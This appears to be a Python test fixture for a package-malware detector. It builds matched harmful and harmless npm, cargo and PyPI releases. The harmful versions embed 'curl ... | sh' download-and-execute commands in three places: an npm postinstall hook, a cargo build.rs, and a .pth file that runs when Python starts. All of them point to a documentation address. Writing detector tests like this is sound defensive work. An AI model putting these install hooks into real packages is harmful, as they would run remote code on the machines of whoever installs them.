"""Inert look-alikes of malware as whole artefacts: they name addresses that lead nowhere, and nobody runs them."""

from __future__ import annotations

from tests.harness import crates, packages

NOWHERE = "http://198.51.100.7/stage2.sh"
"""An address set aside for documentation."""

WORST = {"npm": "hook-command", "pypi": "runs-downloaded", "cargo": "runs-downloaded"}
"""The detector of the worst that is found in a harmful one."""

HARMFUL = {"scripts": {"postinstall": f"curl -s {NOWHERE} | sh"}}
HARMLESS = {"scripts": {"postinstall": "node -e 0"}}
"""Of a package.json."""


def harmful(ecosystem: str, name: str, version: str) -> bytes:
    """A release that would run what it downloads as it is installed, built or started."""
    if ecosystem == "npm":
        return packages.npm_tarball(name, version, manifest=HARMFUL)
    if ecosystem == "cargo":
        build = f'fn main() {{ std::process::Command::new("sh").arg("-c").arg("curl -s {NOWHERE} | sh").status(); }}\n'
        return crates.crate(name, version, files={"build.rs": build})
    line = b"import os; os.system('curl -s " + NOWHERE.encode() + b" | sh')\n"
    return packages.wheel(name, version, files={f"{name}-init.pth": line})[1]


def harmless(ecosystem: str, name: str, version: str) -> bytes:
    """The same without harm: it prints a word in the same places."""
    if ecosystem == "npm":
        return packages.npm_tarball(name, version, manifest=HARMLESS)
    if ecosystem == "cargo":
        build = 'fn main() { println!("cargo:rerun-if-changed=x"); }\n'
        return crates.crate(name, version, files={"build.rs": build})
    return packages.wheel(name, version)[1]
